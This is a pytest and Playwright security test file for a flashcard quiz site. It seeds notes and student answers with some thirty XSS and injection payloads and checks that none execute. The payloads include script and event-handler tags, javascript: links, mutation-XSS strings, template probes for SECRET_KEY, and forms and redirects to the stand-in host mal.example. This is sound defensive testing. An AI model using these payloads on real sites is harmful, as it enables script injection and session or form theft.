"""Notes and students that attack: a vault full of scripts is published, and every page of it is walked
through."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from tests.support.quiz_server import Learner, QuizServer, serving, visiting

if TYPE_CHECKING:
    from playwright.sync_api import Browser

IMAGE = "<img src=x onerror=pwned=1>"
"""Short enough for a name."""
ATTACKS = (
    "<script>pwned=1;alert(1)</script>",
    '<img src=x onerror="pwned=1">',
    '<svg onload="pwned=1"><script>pwned=1</script><animate onbegin="pwned=1"/></svg>',
    "[lien](javascript:pwned=1)",
    "[lien](JaVaScRiPt&colon;pwned=1)",
    '<a href="javascript:pwned=1" onclick="pwned=1">lien</a>',
    '<a href=" &#106;avascript:pwned=1">lien</a>',
    '<a href="data:text/html,<script>pwned=1</script>">lien</a>',
    "<style>*{display:none!important}</style>",
    '<p style="position:fixed;inset:0;background:red" class="btn btn-main" id="stage">par-dessus</p>',
    '<form action="//mal.example/"><input name="csrf_token"><button formaction="//mal.example/">ici</button></form>',
    '<meta http-equiv="refresh" content="0;url=//mal.example/">',
    '<base href="//mal.example/"><link rel="stylesheet" href="//mal.example/x.css">',
    '<iframe src="//mal.example/" srcdoc="<script>parent.pwned=1</script>"></iframe>',
    '<object data="//mal.example/x"></object><embed src="//mal.example/x">',
    '<video src="//mal.example/x" autoplay onerror="pwned=1"></video><audio src="//mal.example/x"></audio>',
    '<img src="//mal.example/x.png" srcset="//mal.example/y.png 2x">![x](https://mal.example/x.png)',
    '<div background="//mal.example/x.png"><table background="//mal.example/y.png"><td>x</td></table></div>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=pwned=1&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=pwned=1>"></noscript>',
    '<svg></p><style><a id="</style><img src=x onerror=pwned=1>">',
    "<template><img src=x onerror=pwned=1></template><textarea><img src=x onerror=pwned=1></textarea>",
    "&lt;img src=x onerror=pwned=1&gt; &amp;lt;script&amp;gt;pwned=1&amp;lt;/script&amp;gt;",
    r"\<img src=x onerror=pwned=1\>",
    r"$\href{javascript:pwned=1}{x}$ $</math><img src=x onerror=pwned=1>$ $\unicode{<img src=x onerror=pwned=1>}$",
    "{{7*573}} {% for x in config %}{{x}}{% endfor %} ${7*573} #{7*573} {{ config.SECRET_KEY }}",
    "\" onmouseover=\"pwned=1\" x=\" ' onfocus='pwned=1' autofocus x='",
    'obsidian://advanced-uri?eval=pwned=1 <a href="obsidian://open?file=x" onclick=pwned=1>note</a>',
    "</div></main></body></html><body onload=pwned=1>",
    "<details open ontoggle=pwned=1><summary>x</summary></details><input autofocus onfocus=pwned=1>",
)
PICTURE = """<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" onload="pwned=1">
<script>window.pwned=1; parent.pwned=1</script><image href="https://mal.example/x.png"/><rect width="40" height="40"/>
</svg>"""
PRODUCT = str(7 * 573)
"""What ``{{7*573}}`` would be if notes were templates."""


def _vault(root: Path) -> Path:
    """Notes with an attack in each place that a card shows."""
    folder = root / "coffre" / "Chapitre 1 - Attaques"
    folder.mkdir(parents=True)
    for number, start in enumerate(range(0, len(ATTACKS), 5)):
        (folder / f"CONC_ Piège {number} {IMAGE}.md").write_text(
            _note(number, ATTACKS[start : start + 5]), "utf-8"
        )
    (folder / "piege.svg").write_text(PICTURE, "utf-8")
    recipe = root / "attaques.yml"
    recipe.write_text(
        f'course: "Cours {IMAGE}"\nnotes: coffre\ndepth: complete\ntitles:\n  1: "{IMAGE}"\n', "utf-8"
    )
    return recipe


def _note(number: int, attacks: tuple[str, ...]) -> str:
    one, two, three, four, five = attacks
    quoted = [attack.replace("\\", "").replace('"', "'") for attack in attacks]
    return f"""---
aliases: ["{quoted[0]}", "Ruse {number} {IMAGE}"]
type: concept
summary: "{quoted[1]}"
source: "{quoted[2]} (2020)"
parent: "[[{IMAGE}]]"
---
# CONCEPT : Piège {number} {IMAGE}

## Description
Un **piège {number}** est une ruse {one} que tend la **page {number} {IMAGE}** au lecteur. {two}

### Qui ?
Les **ruseurs {number}** {three} et les **{IMAGE} naïfs {number}**.

### Quoi ?
![{IMAGE}](piege.svg) ![[piege.svg|{IMAGE}]] {four}

| Ruse {one} | Effet |
|---|---|
| {two.replace("|", "")} | **cellule {number}** {three.replace("|", "")} |

### Comment ?
La ruse suit quatre temps :
1. **Guetter {number}** : attendre {one}
2. **Tendre {number}** : poser {two}
3. **Fermer {number}** : serrer {three}
4. **Relever {number}** : ramasser {four}

### Pourquoi ?
- Pour **tromper {number}** {five}
- Pour **prendre {number}** ce qui passe {IMAGE}

> [!warning] {IMAGE}
> {five}

## Connaissances mobilisées et liens
- **Régulation (R)** : Il **est régulé par** {one} la prudence :
    - Régulation:: [[CONC_ Piège {(number + 1) % 6} {IMAGE}|{IMAGE}]]
"""


@pytest.fixture(scope="module")
def quiz(tmp_path_factory: pytest.TempPathFactory) -> Iterator[QuizServer]:
    root = tmp_path_factory.mktemp("hostile")
    QuizServer(root / "data").command("publish", _vault(root))
    with serving(root / "data") as running:
        yield running


WRONG = """() => {
  const found = window.pwned === undefined ? [] : ['pwned'];
  const address = /^(?!#|[/]|https?:|mailto:|obsidian:[/][/]open[?]|$)|^[/][/]/i;
  for (const it of document.body.querySelectorAll('*')) {
    const bad = [...it.attributes].some(({name, value}) => /^on|^style$|^srcdoc$|^srcset$|^background$/.test(name)
      || /^(href|src|action|formaction|xlink:href|data)$/.test(name) && address.test(value.trim())
      || /mal[.]example/.test(value) && /^(src|action|formaction|data)$/.test(name));
    const tag = it.matches('script, style, iframe, object, embed, base, meta, link, video, audio, template, noscript, textarea');
    if (bad || tag) found.push(it.outerHTML.slice(0, 200));
  }
  if (document.querySelectorAll('#stage').length > 1) found.push('stage');
  for (const it of document.images) if (it.complete && !it.naturalWidth) found.push(`broken: ${it.outerHTML}`);
  if (!document.querySelector('main').checkVisibility()) found.push('hidden');
  return found.slice(0, 5);
}"""
"""What of a note did get onto the page that should not have."""


OPEN = "() => document.querySelectorAll('details').forEach((it) => { it.open = true })"


def _check(learner: Learner) -> None:
    page = learner.page
    assert page.url.startswith(learner.quiz.url)
    assert not page.evaluate(WRONG), page.url
    assert PRODUCT not in page.locator("body").inner_text(), page.url


@pytest.mark.timeout(240)
def test_no_note_and_no_student_runs_anything_on_any_page(browser: Browser, quiz: QuizServer) -> None:
    code = quiz.command("class", "add", f"{IMAGE} {{{{7*573}}}}")
    with visiting(browser, quiz) as learner:
        page = learner.enter(IMAGE, code).page
        assert IMAGE in page.locator("main, .notice").all_inner_texts()[0]
        _check(learner)
        learner.many()
        for mode in ("order", "match", "choice", "typed"):
            learner.begin(mode, "10")
            assert learner.mode == mode
            _session(learner)
        learner.begin("flash", "40")
        _cards(learner)
        for address in _addresses(quiz):
            page.goto(address)
            page.evaluate(OPEN)
            _check(learner)


def _session(learner: Learner) -> None:
    """Answers until the session is done, sometimes wrong, and in writing first with attacks."""
    page, attacks = learner.page, 3 if learner.mode == "typed" else 0
    while page.locator("[data-page=ask]").count():
        _check(learner)
        if attacks:
            attacks -= 1
            page.fill("#response", f"{IMAGE} {{{{7*573}}}}")
            page.keyboard.press("Enter")
            page.wait_for_selector("[data-page=feedback]")
        else:
            learner.answer(len(learner.given) % 5 > 0, True)
        page.evaluate(OPEN)
        _check(learner)
        learner.go_on()
    _check(learner)


def _cards(learner: Learner) -> None:
    """Turns flashcards until the session is done."""
    page = learner.page
    while page.locator("[data-page=ask]").count():
        page.keyboard.press("Space")
        page.wait_for_selector("#rate .rate-3")
        _check(learner)
        learner.answer(True)


def _addresses(quiz: QuizServer) -> list[str]:
    """All other pages; all cards are on those of the notions and of a long free session's summary."""
    notions = [f"/notions/{row['slug']}" for row in quiz.rows("SELECT slug FROM notions")]
    sessions = [f"/study/{row['id']}/summary" for row in quiz.rows("SELECT id FROM sessions")]
    return ["/", "/progress", "/progress/map", "/account", "/study/last", *notions, *sessions]


def test_a_picture_with_a_script_is_only_a_picture(browser: Browser, quiz: QuizServer) -> None:
    (row,) = quiz.rows("SELECT name FROM media WHERE name LIKE '%.svg'")
    stopped = (
        "Blocked script execution",
        "Content Security Policy",
        "sandboxed",
        "request: https://mal.example/x.png",
    )
    with visiting(browser, quiz, stopped) as learner:
        page, failed = learner.page, dict[str, str | None]()
        page.on("requestfailed", lambda request: failed.update({request.url: request.failure}))
        answer = page.goto(f"/media/{row['name']}")
        assert answer is not None
        assert "sandbox" in answer.headers["content-security-policy"]
        assert page.evaluate("() => window.pwned") is None
        assert failed == {"https://mal.example/x.png": "csp"}, "stopped before it was sent"


def test_what_a_page_may_do_is_bounded_by_headers(browser: Browser, quiz: QuizServer) -> None:
    with visiting(browser, quiz) as learner:
        for address in ("/", "/offline", "/back"):
            answer = learner.page.goto(address)
            assert answer is not None
            policy = answer.headers["content-security-policy"]
            assert "unsafe" not in policy
            assert "default-src 'none'" in policy
            assert "script-src 'self';" in policy
            assert "frame-ancestors 'none'" in policy
            assert answer.headers["x-content-type-options"] == "nosniff"


def test_a_form_from_elsewhere_is_refused(browser: Browser, quiz: QuizServer) -> None:
    with visiting(browser, quiz) as learner:
        learner.enter("Formulaire").begin("flash")
        answer = learner.page.locator("form[data-answer]").get_attribute("action") or ""
        send = learner.context.request
        fields: dict[str, str | float | bool] = {
            field.get_attribute("name") or "": field.get_attribute("value") or ""
            for field in learner.page.locator("form[data-answer] input[type=hidden]").all()
        }
        tokens: list[dict[str, str | float | bool]] = [{}, {"csrf_token": "x"}]
        for token in tokens:
            bare = (
                {name: value for name, value in fields.items() if name != "csrf_token"}
                | {"rating": "3"}
                | token
            )
            assert send.post(answer, form=bare).status == 400
            for address in ("/join", "/try", "/leave", "/account", "/account/erase", "/study"):
                assert send.post(address, form=token).status == 400
        assert not quiz.answers("Formulaire")
        assert quiz.rows("SELECT 1 FROM students WHERE name = 'Formulaire'")


def test_the_cookie_is_for_the_server_alone_and_new_at_sign_in(browser: Browser, quiz: QuizServer) -> None:
    with visiting(browser, quiz) as learner:
        learner.page.goto("/")
        before = {it["name"]: it for it in learner.context.cookies()}
        token = learner.page.locator("[name=csrf_token]").first.get_attribute("value")
        learner.enter("Biscuit")
        after = {it["name"]: it for it in learner.context.cookies()}
        assert after.keys() == {"webquiz"}
        assert before["webquiz"].get("value") != after["webquiz"].get("value")
        assert token != learner.page.locator("[name=csrf_token]").first.get_attribute("value")
        for cookie in (*before.values(), *after.values()):
            assert cookie.get("httpOnly")
            assert cookie.get("sameSite") in ("Lax", "Strict")
        assert "pwned" not in learner.page.evaluate("() => document.cookie")
        answer = learner.context.request.post("/study", form={"csrf_token": token or ""})
        assert answer.status == 400, "a form of the time before the sign-in is void"
